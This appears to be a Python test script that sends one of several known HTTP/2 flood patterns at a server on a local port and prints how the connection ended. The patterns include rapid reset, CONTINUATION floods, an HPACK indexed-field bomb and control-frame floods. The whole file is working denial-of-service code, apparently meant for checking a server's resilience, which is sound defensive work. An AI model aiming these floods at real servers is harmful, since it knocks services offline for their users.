"""One of the floods that HTTP/2 invites: goes on until the server ends the connection, and prints how it ended.

usage: http2_floods.py PORT NAME
"""

import ssl
import struct
import sys
from collections.abc import Iterator

from raw_http2 import PREFACE, connect, frame, literal

port, name = int(sys.argv[1]), sys.argv[2]


def request(method: str) -> bytes:
    return literal(":method", method) + literal(":scheme", "https") + literal(":path", "/") + literal(":authority", "localhost")


GET, POST = request("GET"), request("POST")


def streams(number: int, second: bytes, flags: int, fields: bytes) -> bytes:
    return frame(1, flags, number, fields) + second[:5] + struct.pack(">I", number) + second[9:]


def flood() -> Iterator[bytes]:
    if name == "rapid-reset":
        for number in range(1, 1_000_000, 2):
            yield streams(number, frame(3, 0, 0, b"\0\0\0\x08"), 5, GET)
    elif name == "made-you-reset":
        for number in range(1, 1_000_000, 2):
            yield streams(number, frame(8, 0, 0, b"\0\0\0\0"), 4, POST)
    elif name == "empty-continuations":
        yield frame(1, 1, 1, GET)
        while True:
            yield frame(9, 0, 1) * 20
    elif name == "endless-section":
        yield frame(1, 1, 1, GET)
        while True:
            yield frame(9, 0, 1, literal("a", "b" * 100) * 20)
    elif name == "indexed-bomb":
        # A field of nearly a table's size, and one byte for each time it is meant again.
        yield frame(1, 1, 1, GET + b"\x40\x01a\x7f\x81\x1d" + b"x" * 3840)
        while True:
            yield frame(9, 0, 1, b"\xbe" * 16000)
    elif name == "empty-data":
        yield frame(1, 4, 1, POST)
        while True:
            yield frame(0, 0, 1) * 100
    elif name == "late-trailers":
        yield streams(1, frame(8, 0, 0, b"\0\0\0\0"), 4, POST)
        while True:
            yield frame(1, 5, 1, literal("a", "b")) * 100
    else:
        one = {"settings": frame(4, 0, 0), "pings": frame(6, 0, 0, b"12345678"), "priorities": frame(16, 0, 0, b"\0\0\0\1u=1"),
               "credits": frame(8, 0, 0, b"\0\0\0\1"), "unknown-frames": frame(0x44, 0, 0)}[name]
        while True:
            yield one * 100


connection = connect(port)
connection.sendall(PREFACE + frame(4, 0, 0))
connection.settimeout(60)
try:
    for piece in flood():
        connection.sendall(piece)
        connection.setblocking(False)
        try:
            if not connection.recv(65536):
                raise OSError
        except (ssl.SSLWantReadError, ssl.SSLWantWriteError):
            pass
        finally:
            connection.settimeout(60)
    print("it was let go on")
except TimeoutError:
    print("silent")
except OSError:
    print("ended")
